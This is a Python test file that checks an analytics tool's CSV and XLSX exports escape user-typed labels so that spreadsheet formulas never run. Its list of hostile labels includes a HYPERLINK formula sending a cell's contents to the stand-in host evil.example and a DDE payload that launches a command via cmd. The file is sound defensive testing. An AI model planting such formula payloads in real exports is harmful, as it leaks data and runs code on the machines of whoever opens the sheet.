"""Exports cannot run code: labels people typed are shown in a spreadsheet, never run."""

import csv
import io
from datetime import date

from openpyxl import load_workbook

from kliento.analytics.explore import ExploreTable
from kliento.analytics.export import table_as_csv, table_as_xlsx
from kliento.analytics.metrics import Estimate, MetricsRow

HOSTILE_LABELS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                  "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _table() -> ExploreTable:
    rows = [MetricsRow(bucket=date(2026, 7, 1), group=str(index), interactions=3,
                       nps=Estimate(-25.0, -60.5, 10.0, 4))
            for index in range(len(HOSTILE_LABELS))]
    return ExploreTable(rows, {str(index): label for index, label in enumerate(HOSTILE_LABELS)})


def test_csv_export_cannot_run_a_formula_typed_into_a_name():
    rows = list(csv.reader(io.StringIO(table_as_csv(_table()).decode("utf-8-sig"),
                                       newline="")))
    assert [row[1] for row in rows[1:]] == ["'" + label for label in HOSTILE_LABELS]
    # A negative NPS is a number, not a formula: written as it is.
    assert rows[1][4:7] == ["-25.0", "-60.5", "10.0"]


def test_xlsx_export_writes_text_as_text_never_as_a_formula():
    sheet = load_workbook(io.BytesIO(table_as_xlsx(_table()))).active
    labels = [sheet.cell(row=row, column=2) for row in range(2, 2 + len(HOSTILE_LABELS))]
    # (XML reads a lone CR back as LF.)
    assert [label.value for label in labels] == [
        "'" + label.replace("\r", "\n") for label in HOSTILE_LABELS]
    assert {label.data_type for label in labels} == {"s"}
    nps = sheet.cell(row=2, column=5)
    assert (nps.value, nps.data_type) == (-25.0, "n")
